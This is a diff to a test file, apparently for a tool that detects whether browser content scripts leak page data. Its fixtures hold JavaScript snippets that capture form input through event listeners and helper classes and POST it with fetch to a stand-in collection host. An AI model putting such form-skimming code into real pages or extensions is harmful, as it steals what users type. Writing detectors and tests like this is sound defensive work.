@@ -6,6 +6,8 @@ const HOST = 'https://collect.example';
 const ON = 'document.addEventListener("submit", (e) => {';
 const VALUE = 'e.target.querySelector("input").value';
 const send = (what: string): string => `setInterval(() => fetch('${HOST}', { method: 'POST', body: ${what} }), 1000);`;
+const EMITTER =
+  'function Emitter() { this.all = {}; } Emitter.prototype.on = function (name, fn, self) { (this.all[name] = this.all[name] || []).push({ fn: fn, self: self }); return this; }; Emitter.prototype.emit = function (name) { var args = Array.prototype.slice.call(arguments, 1); (this.all[name] || []).forEach(function (one) { one.fn.apply(one.self || null, args); }); };';
 
 /** Whether data of pages is sent by content scripts that are loaded together, one behind the other. */
 async function isSent(scripts: readonly string[], background: readonly string[] = []): Promise<boolean> {
@@ -78,6 +80,17 @@ test.each<[string, ...string[]]>([
     'a stream’s two ends',
     `const { readable, writable } = new TransformStream(); const to = writable.getWriter(); fetch('${HOST}', { method: 'POST', body: readable }); ${ON} to.write(${VALUE}); });`,
   ],
+  [
+    'a helper that is told which events are heard',
+    'const listen = { on(node, names, fn) { names.split(" ").forEach((name) => node.addEventListener(name, fn)); } };',
+    `let last = ''; listen.on(document, 'input change', (e) => { last = e.target.value; }); ${send('last')}`,
+  ],
+  [
+    'what inherits from another script’s constructor, with listeners in lists that are called with what was raised',
+    EMITTER,
+    "function Field(node) { Emitter.call(this); this.node = node; node.addEventListener('blur', this.leave.bind(this)); } Field.prototype = Object.create(Emitter.prototype); Field.prototype.leave = function () { this.emit('left', this); }; Field.prototype.told = function () { return { text: this.node.value }; };",
+    `function Page() { document.addEventListener('focusin', this.seen.bind(this)); } Page.prototype.seen = function (e) { new Field(e.target).on('left', this.left, this); }; Page.prototype.left = function (one) { fetch('${HOST}', { method: 'POST', body: JSON.stringify(one.told()) }); }; new Page();`,
+  ],
 ])('data is followed through %s', async (_, ...scripts) => {
   expect(await isSent(scripts)).toBe(true);
 });
@@ -97,6 +110,16 @@ test.each<[string, ...string[]]>([
     'a function’s own variable of that name',
     `var App = App || {}; App.data = {}; ${ON} App.data[e.target.name] = ${VALUE}; });`,
     `function start() { var App = App || {}; ${send('JSON.stringify(App.data)')} }`,
+  ],
+  [
+    'a helper’s listener that looks at something else',
+    'const listen = { on(node, names, fn) { names.split(" ").forEach((name) => node.addEventListener(name, fn)); } };',
+    `let last = 0; listen.on(document, 'input change', (e) => { last = e.timeStamp; }); ${send('String(last)')}`,
+  ],
+  [
+    'another event of such lists',
+    EMITTER,
+    `function Field() { Emitter.call(this); } Field.prototype = Object.create(Emitter.prototype); var field = new Field(); field.on('size', function (one) { fetch('${HOST}', { method: 'POST', body: one.size }); }); ${ON} field.emit('text', { text: ${VALUE} }); });`,
   ],
   [
     'another setter',
